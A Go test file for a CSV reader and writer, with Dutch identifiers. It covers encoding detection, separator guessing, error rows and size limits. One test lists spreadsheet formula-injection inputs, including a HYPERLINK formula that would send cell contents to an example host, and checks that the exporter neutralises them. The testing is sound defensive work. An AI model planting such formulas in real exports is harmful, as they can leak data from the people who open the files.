package rekenblad

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"strings"
	"testing"
	"unicode/utf16"

	"golang.org/x/text/encoding/charmap"

	"github.com/verantwoord/verantwoord/internal/fout"
)

func utf16Van(s string, big bool) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		if big {
			b = append(b, byte(u>>8), byte(u))
		} else {
			b = append(b, byte(u), byte(u>>8))
		}
	}
	return b
}

func TestACSVIsReadWhateverProgramWroteIt(t *testing.T) {
	t.Parallel()
	const tekst = "Naam;Doel\r\nBeëindigen;€ 5 – café\r\n"
	const want = "Naam|Doel\nBeëindigen|€ 5 – café\n"
	w1252, err := charmap.Windows1252.NewEncoder().Bytes([]byte(tekst))
	if err != nil {
		t.Fatal(err)
	}
	for naam, b := range map[string][]byte{
		"UTF-8":                        []byte(tekst),
		"UTF-8 with a mark":            append([]byte("\xEF\xBB\xBF"), tekst...),
		"UTF-16 LE with a mark":        append([]byte{0xFF, 0xFE}, utf16Van(tekst, false)...),
		"UTF-16 BE with a mark":        append([]byte{0xFE, 0xFF}, utf16Van(tekst, true)...),
		"UTF-16 LE without":            utf16Van(strings.Repeat("Naam;Doel\r\n", 20), false),
		"UTF-16 BE without":            utf16Van(strings.Repeat("Naam;Doel\r\n", 20), true),
		"Windows-1252":                 w1252,
		"commas":                       []byte(strings.ReplaceAll(tekst, ";", ",")),
		"tabs":                         []byte(strings.ReplaceAll(tekst, ";", "\t")),
		"bars":                         []byte(strings.ReplaceAll(tekst, ";", "|")),
		"line feeds alone":             []byte(strings.ReplaceAll(tekst, "\r", "")),
		"carriage returns alone":       []byte(strings.ReplaceAll(tekst, "\n", "")),
		"all cells in quotes":          []byte("\"Naam\";\"Doel\"\r\n\"Beëindigen\";\"€ 5 – café\"\r\n"),
		"no line end behind the last":  []byte(strings.TrimSuffix(tekst, "\r\n")),
		"empty lines behind the table": []byte(tekst + "\r\n;\r\n\r\n"),
	} {
		want := want
		if strings.HasSuffix(naam, "E without") {
			want = strings.Repeat("Naam|Doel\n", 20)
		}
		if got := rijenVan(moetLezen(t, b, "lijst.csv")); got != want {
			t.Errorf("%s: got %q", naam, got)
		}
	}
}

func TestTheRowOfAnErrorIsTheRowOnTheScreen(t *testing.T) {
	t.Parallel()
	tabel := moetLezen(t, []byte("a;b\n\n\"c\nd\";e\n\n\nf;g\n"), "x.csv")
	if got := rijenVan(tabel); got != "a|b\n\nc\nd|e\n\n\nf|g\n" || tabel.Cel(5, 1) != "g" {
		t.Errorf("got %q", got)
	}
	tabel = moetLezen(t, []byte("sep=,\r\na,b;c\r\n"), "x.csv")
	if got := rijenVan(tabel); got != "\na|b;c\n" {
		t.Errorf("the line with the separator is row 1, got %q", got)
	}
}

func TestTheSeparatorIsTheOneThatCutsRowsAlike(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"Register van Voorbeeldstad\n\nNaam;Doel, kort\nA;x, y en z\nB;q\n", "Register van Voorbeeldstad\n\nNaam|Doel, kort\nA|x, y en z\nB|q\n"},
		{"a,b\n\"x;y;z\",c\n\"p;q\",d\n", "a|b\nx;y;z|c\np;q|d\n"},
		{"a\tb\n1,5\t2,5\n", "a|b\n1,5|2,5\n"},
		{"een kolom\nzonder, komma te veel\na\nb\n", "een kolom\nzonder, komma te veel\na\nb\n"},
		{"maat 5\" buis;x\n6\";y\n", "maat 5\" buis|x\n6\"|y\n"},
	} {
		if got := rijenVan(moetLezen(t, []byte(c.in), "x.csv")); got != c.want {
			t.Errorf("%q: got %q, want %q", c.in, got, c.want)
		}
	}
}

func TestABrokenCSVIsRefusedWithItsRow(t *testing.T) {
	t.Parallel()
	moetWeigeren(t, []byte("a;b\n\"c;d\ne;f\n"), "x.csv", fout.CodeOnleesbaar, "In rij 2 begint een tekst")
	moetWeigeren(t, []byte("a;b\nc;\"d\" e\n"), "x.csv", fout.CodeOnleesbaar, "In rij 2 staat tekst achter een aanhalingsteken")
	moetWeigeren(t, []byte("caf\xC3\xA9;b\nc;caf\xC3"), "x.csv", fout.CodeOnleesbaar, "midden in een letter")
	moetWeigeren(t, append([]byte{0xFF, 0xFE}, 'a', 0, 'b'), "x.csv", fout.CodeOnleesbaar, "midden in een letter")
	moetWeigeren(t, append([]byte{0xFF, 0xFE}, 'a', 0, 0x00, 0xD8, 'b', 0), "x.csv", fout.CodeOnleesbaar, "niet te herkennen")
	moetWeigeren(t, []byte("caf\xC3\xA9;\xC3\xAB;\xC3\xA9;na\xEFef\n"), "x.csv", fout.CodeOnleesbaar, "twee coderingen")
	moetWeigeren(t, []byte("a;b\x81c\n"), "x.csv", fout.CodeOnleesbaar, "niet te herkennen")
	moetWeigeren(t, []byte("a;b\x00c;d;e;f;g\n"), "x.csv", fout.CodeOnleesbaar, "geen tekstbestand")
	moetWeigeren(t, []byte(";\n;;\n"), "x.csv", fout.CodeOnleesbaar, "geen tekst")
	moetWeigeren(t, nil, "x.csv", fout.CodeOnleesbaar, "leeg")
}

func TestLettersThatWereSavedWronglyBeforeAreTold(t *testing.T) {
	t.Parallel()
	if tabel := moetLezen(t, []byte("Naam;BeÃ«indigen\n"), "x.csv"); !heeftOpmerking(tabel, "verkeerd te zijn opgeslagen") {
		t.Error(tabel.Opmerkingen)
	}
	if tabel := moetLezen(t, []byte("Naam;Be\xEBindigen\n"), "x.csv"); !heeftOpmerking(tabel, "Windows-1252") {
		t.Error(tabel.Opmerkingen)
	}
}

func TestTheLimitsOfACSV(t *testing.T) {
	t.Parallel()
	moetWeigeren(t, []byte(strings.Repeat("a;b\n", 20_001)), "x.csv", fout.CodeTeGroot, "cel A20001")
	moetWeigeren(t, []byte(strings.Repeat(";", 200)+"x\n"), "x.csv", fout.CodeTeGroot, "cel GS1")
	moetWeigeren(t, []byte("a;b\n"+strings.Repeat("x", 32_768)+";c\n"), "x.csv", fout.CodeTeGroot, "cel A2")
	moetWeigeren(t, []byte(strings.Repeat(strings.Repeat(";", 199)+"x\n", 5_001)), "x.csv", fout.CodeTeGroot, "te veel")
	moetWeigeren(t, bytes.Repeat([]byte("x"), 5<<20+1), "x.csv", fout.CodeTeGroot, "5 MB")
	if tabel := moetLezen(t, []byte(strings.Repeat("é", 32_767)+";b\n"+strings.Repeat("\n", 30_000)), "x.csv"); len(tabel.Rijen) != 1 {
		t.Errorf("%d rows", len(tabel.Rijen))
	}
	if tabel := moetLezen(t, []byte(strings.Repeat("a;b\n", 20_000)), "x.csv"); len(tabel.Rijen) != 20_000 {
		t.Errorf("%d rows", len(tabel.Rijen))
	}
}

// What encoding/csv reads of a file without empty lines is what is read here.
func TestRowsAreThoseOfEncodingCSV(t *testing.T) {
	t.Parallel()
	for n := range 200 {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		w.Comma = ';'
		for k := range 5 {
			if err := w.Write([]string{fmt.Sprintf("%c%d", 'a'+n%26, k), strings.Repeat("\"x", n%5) + " y;z", "p\nq" + fmt.Sprint(n)}); err != nil {
				t.Fatal(err)
			}
		}
		w.Flush()
		r := csv.NewReader(bytes.NewReader(b.Bytes()))
		r.Comma = ';'
		want, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		got := moetLezen(t, b.Bytes(), "x.csv")
		if g, w := rijenVan(got), rijenVan(&Tabel{Rijen: want}); g != w {
			t.Fatalf("got %q, want %q", g, w)
		}
	}
}

func TestNothingInAnExportIsAFormula(t *testing.T) {
	t.Parallel()
	gevaar := []string{"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "=HYPERLINK(\"http://example.org/?\"&A1)", "  =1+1", "＝1", "'=1+1", "''+1", "\n=2"}
	gewoon := []string{"'s-Gravenhage", "'", "''", "a=b", "5", "'tekst'", "naam;doel", "a\"b", "x\ny"}
	tabel := &Tabel{}
	for _, s := range append(append([]string{}, gevaar...), gewoon...) {
		tabel.Rijen = append(tabel.Rijen, []string{"rij", s})
	}
	var b bytes.Buffer
	if err := SchrijfCSV(&b, tabel); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), bomUTF8)))
	r.Comma = ';'
	for k := 0; ; k++ {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if k < len(gevaar) && !strings.HasPrefix(rec[1], "'") {
			t.Errorf("%q is written as %q", gevaar[k], rec[1])
		}
		if k >= len(gevaar) && rec[1] != gewoon[k-len(gevaar)] {
			t.Errorf("%q is written as %q", gewoon[k-len(gevaar)], rec[1])
		}
	}
	if got := rijenVan(moetLezen(t, b.Bytes(), "x.csv")); got != rijenVan(tabel) {
		t.Errorf("comes back as %q", got)
	}
}
